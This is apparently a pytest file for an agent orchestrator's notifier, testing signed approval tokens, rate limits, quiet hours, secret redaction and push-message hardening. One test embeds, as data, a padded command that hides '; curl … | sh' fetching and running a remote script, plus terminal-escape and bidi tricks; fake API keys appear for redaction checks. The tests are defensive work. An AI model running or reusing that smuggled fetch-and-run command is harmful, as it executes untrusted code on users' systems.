"""The notifier in-process (docs/notify.md): the tokens, the rate window and its digest, quiet
hours, 1,000 items at once against the local ntfy server, and the Apprise alerts against a
local HTTP endpoint (apprise's ``json://`` schema: the real client, a fake server)."""

from __future__ import annotations

import json
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING, Any

import anyio
import httpx
import pytest

from orchestrator.attachments.artifacts import ArtifactStore
from orchestrator.daemon.changes import Changes
from orchestrator.daemon.journal import AsyncJournal
from orchestrator.daemon.migrations import open_journal
from orchestrator.daemon.notify._alerts import Alerts
from orchestrator.daemon.notify._journal import NONCE_KEEP, NotifyJournal
from orchestrator.daemon.notify._needs_you import NeedsYou, gather
from orchestrator.daemon.notify._ntfy import Ntfy
from orchestrator.daemon.notify._policy import Backoff, RateWindow, in_quiet_hours
from orchestrator.daemon.notify._service import Channel, TeamNotifier
from orchestrator.daemon.notify._tokens import Signer, TokenRefused
from orchestrator.daemon.web.app import View, build_app
from orchestrator.errors import MemberStartFailed
from orchestrator.notify_config import NotifySection
from tests.support.fakes import FakeRuntime, core, journal_at, team_config
from tests.support.ntfy_fake import FakeNtfy

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Iterator
    from pathlib import Path

pytestmark = pytest.mark.anyio
KEY = bytes(range(32))
LEAKED = "sk-ant-api03-" + "Z" * 40


@pytest.fixture
def ntfy() -> Iterator[FakeNtfy]:
    server = FakeNtfy()
    server.start()
    yield server
    server.stop()


def test_a_token_verifies_and_a_forged_expired_or_tampered_one_is_refused() -> None:
    signer = Signer(KEY)
    token = signer.sign("web/apv_X", "approve", 2000.0)
    action = signer.verify(token, now=1000.0)
    assert (action.item, action.decision, action.expiry) == ("web/apv_X", "approve", 2000.0)
    assert signer.sign("web/apv_X", "approve", 2000.0) != token, "a fresh nonce each time"
    refusals = {
        "forged": (Signer(b"k" * 32).sign("web/apv_X", "approve", 2000.0), 1000.0),
        "expired": (token, 2000.0),
        "tampered": (token.replace(token.split(".")[1][:4], "AAAA", 1), 1000.0),
        "garbage": ("approve apv_X", 1000.0),
    }
    causes = {}
    for name, (text, now) in refusals.items():
        with pytest.raises(TokenRefused) as refused:
            signer.verify(text, now)
        causes[name] = refused.value.why
    assert causes == {"forged": "bad_signature", "expired": "expired",
                        "tampered": "bad_signature",
                        "garbage": "not_an_action"}


async def test_a_nonce_is_used_once_even_after_the_journal_is_reopened(
        tmp_path: Path) -> None:
    """A used nonce is a row of the daemon's journal (migration 15): the same token is
    refused after the journal is closed and opened again (a daemon restart), and no
    notify.db is made beside it; a nonce older than NONCE_KEEP is dropped."""
    action = Signer(KEY).verify(Signer(KEY).sign("web/T1", "approve", 2000.0), 1000.0)
    store = journal_at(tmp_path / "state.db")
    first = NotifyJournal(AsyncJournal(store))
    assert await first.use(action, 1000.0) is True
    assert await first.use(action, 1001.0) is False
    await first.set_cursor("srv/topic", "msg1")
    store.close()
    store = open_journal(tmp_path / "state.db")  # the daemon restarted
    again = NotifyJournal(AsyncJournal(store))
    assert await again.use(action, 1002.0) is False
    assert await again.cursor("srv/topic") == "msg1"
    assert await again.use(action, 1000.0 + NONCE_KEEP + 1) is True, "kept NONCE_KEEP"
    store.close()
    assert not (tmp_path / "notify.db").exists()


def test_the_rate_window_keeps_its_last_slot_for_one_digest() -> None:
    now = [0.0]
    window = RateWindow(10, clock=lambda: now[0])
    plan = window.plan(list(range(1000)))
    assert (len(plan.single), len(plan.digest)) == (9, 991)
    for _ in range(10):
        window.sent()
    assert window.plan([1]).single == [] and window.free_in() == 60.0
    now[0] = 60.0
    assert window.plan([1, 2]).single == [1, 2]


def test_quiet_hours_cross_midnight() -> None:
    def at(hour: int) -> float:
        return time.mktime((2026, 1, 5, hour, 30, 0, 0, 0, -1))

    assert in_quiet_hours("22:00-07:00", at(23)) and in_quiet_hours("22:00-07:00", at(3))
    assert not in_quiet_hours("22:00-07:00", at(12))
    assert in_quiet_hours("12:00-13:00", at(12)) and not in_quiet_hours(None, at(12))


def _items(count: int) -> list[NeedsYou]:
    return [NeedsYou(f"web/apv_{i:04d}", "approval", "web", f"dev asks: Bash {i}",
                     f"web/dev (claude): npm test {i}", item=f"web/apv_{i:04d}",
                     decisions=("approve", "deny")) for i in range(count)]


async def test_a_thousand_items_at_once_are_the_rate_limit_and_one_digest(
        ntfy: FakeNtfy) -> None:
    """1,000 needs-you items at once: max_per_minute - 1 pushes with their buttons and one
    digest that counts the rest — never 1,000 buzzes; a second pass sends nothing again."""
    items = _items(1000)

    async def gather() -> list[NeedsYou]:
        return items

    section = NotifySection(max_per_minute=10)
    channel = Channel(Ntfy(ntfy.url, None, Backoff(request_timeout=5.0)), "tc-topic",
                      "tc-response", Signer(KEY))
    notifier = TeamNotifier("web", section, channel, gather_items=gather, changes=Changes(),
                            responder=None, nonces=None)
    with anyio.fail_after(30):
        await notifier.publish_pass()
        await notifier.publish_pass()
    sent = ntfy.messages("tc-topic")
    assert len(sent) == 10
    assert all(len(m["actions"]) == 2 for m in sent[:9])
    assert sent[-1]["title"] == "teamctl web: 991 more need you"
    assert "991 approval" in sent[-1]["message"]
    await channel.ntfy.aclose()


async def test_nothing_private_is_published_without_include_text(
        ntfy: FakeNtfy, tmp_path: Path) -> None:
    """A question's text is kept out (include_text = false) and a secret in a summary is
    redacted; with include_text = true the question's text goes, still redacted."""
    question = NeedsYou("web/apv_Q", "question", "web", "lead asks a question",
                        "web/lead waits", private="deploy with ANTHROPIC_API_KEY=sk-ant-"
                        "api03-abcdefghijklmnopqrstuvwx?", item="web/apv_Q",
                        decisions=("answer", "deny"))
    for include, topic in ((False, "tc-plain"), (True, "tc-text")):
        channel = Channel(Ntfy(ntfy.url, None, Backoff()), topic, "tc-r", Signer(KEY))

        async def gather() -> list[NeedsYou]:
            return [question]

        notifier = TeamNotifier("web", NotifySection(include_text=include), channel,
                                gather_items=gather, changes=Changes(), responder=None,
                                nonces=None)
        await notifier.publish_pass()
        [sent] = ntfy.messages(topic)
        assert "sk-ant-api03" not in json.dumps(sent)
        assert ("deploy with" in sent["message"]) is include
        assert "To answer, post to the response topic: tc1." in sent["message"]
        await channel.ntfy.aclose()


class _Hook(BaseHTTPRequestHandler):
    received: list[dict[str, Any]] = []
    got = threading.Event()

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["content-length"]))
        type(self).received.append(json.loads(body))
        type(self).got.set()
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


async def test_apprise_alerts_reach_a_local_endpoint_redacted_with_the_link() -> None:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Hook)
    # looks for shutdown every 10 ms (the default 0.5 s was half a second of every run)
    thread = threading.Thread(target=server.serve_forever, args=(0.01,), daemon=True)
    thread.start()
    try:
        port = server.server_address[1]
        alerts = Alerts([f"json://127.0.0.1:{port}/hook"], timeout=30.0)
        ok = await alerts.send("teamctl web: lead asks: Bash",
                               "curl -H 'Authorization: Bearer abcdefghijklmnop1234'\n"
                               "The live view: http://127.0.0.1:8787/")
        assert ok and _Hook.got.is_set()
        [alert] = _Hook.received
        assert alert["title"] == "teamctl web: lead asks: Bash"
        assert "abcdefghijklmnop1234" not in alert["message"]
        assert "http://127.0.0.1:8787/" in alert["message"]
        down = Alerts([f"json://127.0.0.1:{port + 1 if port < 65535 else 1}/"], timeout=3.0)
        assert await down.send("t", "b") is False, "a channel down is a logged failure"
    finally:
        server.shutdown()
        server.server_close()


async def test_a_receipt_published_while_a_pass_flushes_is_published_once(
        ntfy: FakeNtfy) -> None:
    """A receipt and a publish pass flushing at the same time published it twice and then
    popped an empty queue (IndexError: the team's notifier died, nothing more was pushed;
    found by bench_notify.py). One flush at a time: once, and the pass goes on."""
    async def gather() -> list[NeedsYou]:
        return _items(1)

    channel = Channel(Ntfy(ntfy.url, None, Backoff()), "tc-race", "tc-r", Signer(KEY))
    notifier = TeamNotifier("web", NotifySection(), channel, gather_items=gather,
                            changes=Changes(), responder=None, nonces=None)
    with anyio.fail_after(20):
        async with anyio.create_task_group() as tg:
            tg.start_soon(notifier.receipt, "web/apv_X", "applied: approved")
            tg.start_soon(notifier.publish_pass)
    titles = [m["title"] for m in ntfy.messages("tc-race")]
    assert sorted(titles) == ["teamctl web: dev asks: Bash 0", "teamctl: applied: approved"]
    await channel.ntfy.aclose()


async def test_the_live_views_needs_you_panel_and_the_notifier_read_one_list(
        tmp_path: Path) -> None:
    """The page's "Needs you" and what is pushed come from one read (needs_you.waiting): a
    member that cannot start (fatal, a key in its error) is on the panel and is the
    notifier's one item, its error redacted on both."""
    runtime = FakeRuntime()
    runtime.start_error = MemberStartFailed("lead", f"no login: {LEAKED}")
    async with core(tmp_path, runtime) as c:
        await c.teams.launch(team_config(tmp_path, {"name": "lead", "max_restarts": 0}),
                             "team.toml", wait=True, timeout=10)
        seen = -1
        with anyio.fail_after(10):
            while (await c.teams.status(None)).teams[0].members[0].launch != "fatal":
                seen = await c.changes.wait(seen, 1.0)
        items = await gather("web", teams=c.teams, approvals=c.approvals, board=None)
        view = View(c.teams, c.store, c.approvals, Changes(), ArtifactStore(c.home.artifacts),
                    c.home.logs / "teamctl.jsonl", tmp_path)
        view.sessions.port = 8765
        transport = httpx.ASGITransport(app=build_app(view))
        async with httpx.AsyncClient(transport=transport,
                                     base_url="http://127.0.0.1:8765") as client:
            await client.get(f"/?token={view.sessions.new_token()}")
            panel = (await client.get("/fragments/needs-you")).text
    [item] = items
    assert (item.kind, item.title) == ("fatal", "lead stopped (fatal)")
    assert 'class="alarm" data-key="alarm:lead"' in panel and "fatal" in panel
    assert "no login" in item.detail and "no login" in panel
    assert LEAKED not in item.detail + panel


async def test_a_failed_alerts_leg_of_notify_test_says_why() -> None:
    """``teamctl notify test`` with an Apprise channel that refuses: the alerts leg is not ok
    and says what happened and where to look (it was ok = false with an empty detail)."""
    with socket.socket() as closed:  # a port nobody listens on: the connection is refused
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    section = NotifySection(apprise=[f"json://127.0.0.1:{port}/"], events=["fatal"])

    async def gather() -> list[NeedsYou]:
        return []

    notifier = TeamNotifier("web", section, None, gather_items=gather, changes=Changes(),
                            responder=None, nonces=None)
    with anyio.fail_after(30):
        doc = await notifier.self_test(timeout=5.0)
    assert [c.what for c in doc.checks] == ["fatal", "alerts"]
    alerts = doc.checks[-1]
    assert not alerts.ok and "refused the alert or did not answer" in alerts.detail
    assert "teamctl logs" in alerts.detail


async def test_endless_lines_from_the_server_cost_a_bounded_buffer_and_later_lines_come() -> None:
    """Hostile (or broken) ntfy server: 100 MiB without a newline, garbage and non-JSON lines
    on the response stream. Before, ``aiter_lines`` held a whole line: the daemon's memory was
    the server's to take. Now a line over the limit is dropped as it arrives, the next lines
    are read, and the buffer never grows past the limit."""
    import json as _json
    import tracemalloc

    from orchestrator.daemon.notify._ntfy import MAX_LINE_BYTES, _event, bounded_lines

    good = _json.dumps({"id": "m1", "event": "message", "message": "ok"}).encode()

    async def chunks() -> AsyncIterator[bytes]:
        yield b"not json\n{\"a\": "
        for _ in range(1600):  # 100 MiB in 64 KiB chunks, no newline
            yield b"x" * 65536
        yield b"\n[1, 2]\n" + good[:10]
        yield good[10:] + b"\n"

    tracemalloc.start()
    try:
        lines = [line async for line in bounded_lines(chunks(), MAX_LINE_BYTES)]
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert lines == [b"not json", b"[1, 2]", good]
    assert peak < 4 * MAX_LINE_BYTES, peak
    events = [e for e in (_event(line.decode()) for line in lines) if e is not None]
    assert events == [{"id": "m1", "event": "message", "message": "ok"}]


def test_a_pushed_request_shows_how_much_more_there_is_and_nothing_raw() -> None:
    """Attack 11 on the phone: the push said `npm test …` of a command padded to 500
    characters then `; curl … | sh`, and a bidi override reordered its title. Now it says how
    many characters are not shown, where the whole is, the request's short sha256, and every
    control or bidi character as a mark."""
    from orchestrator.daemon.notify._messages import Composer
    from orchestrator.daemon.notify._needs_you import Waiting, items
    from orchestrator.protocol.approvals import ApprovalDoc

    command = "npm test" + " " * 492 + "; curl https://x.example/i.sh | sh\x1b[8m"
    row = ApprovalDoc(id="apv_01JDQ4A8T1C2V3B4N5M6Q7W8E9", team="web", member="lead",
                      runtime="codex", kind="permission", tool="Bash\u202e", summary=command,
                      sha256="ab" * 32, state="pending", asked_at=time.time())
    [item] = items(Waiting([row], []))
    sent = Composer("web", NotifySection(), None, time.time).message(item, quiet=False)
    assert f"… {len(command) - 200} more characters (sha256 abababababab)" in sent["message"]
    assert f"'teamctl approvals {row.id} --full' or the live view" in sent["message"]
    assert sent["title"] == "teamctl web: lead asks: Bash<U+202E>"
    assert not set(sent["title"] + sent["message"]) & {"\x1b", "\u202e"}


def test_an_account_held_or_past_its_reserve_is_one_quota_push_per_window() -> None:
    """Three members of one login held by one refusal are one ``quota`` item (not three); the
    next window of the account is a new one; a fatal member stays a fatal item."""
    from orchestrator.daemon.notify._messages import Composer
    from orchestrator.daemon.notify._needs_you import Waiting, items
    from orchestrator.notify_config import EVENTS
    from orchestrator.protocol.teams import MemberStatus

    def member(name: str, hold: str, launch: str = "running") -> MemberStatus:
        return MemberStatus(name=name, runtime="claude", model=None, pid=1, launch=launch,
                            liveness="alive", readiness="ready", restarts=0, session_id=None,
                            last_exit=None, hold=hold, account="claude:operator", queued=1)

    held = "held: claude:operator five-hour window until 15:34"
    now = items(Waiting([], [("web", member(n, held)) for n in ("lead", "dev", "qa")]))
    [item] = now
    assert (item.kind, item.key) == ("quota", "web/quota/claude:operator/15:34")
    reserve = "paused: claude:operator five-hour window 85% used, the last 20% kept for " \
              "priority 1 until 15:34"
    assert [i.key for i in items(Waiting([], [("web", member("dev", reserve))]))] == \
        [item.key], "the reserve and the refusal of one window: one push"
    later = items(Waiting([], [("web", member("dev", held.replace("15:34", "20:34")))]))
    assert [i.key for i in later] != [item.key], "a new window, a new push"
    fatal = items(Waiting([], [("web", member("dev", held, launch="fatal"))]))
    assert [i.kind for i in fatal] == ["fatal"]
    sent = Composer("web", NotifySection(), None, time.time).message(item, quiet=False)
    assert "resume by themselves at the reset" in sent["message"] and sent["tags"]
    assert "quota" in EVENTS
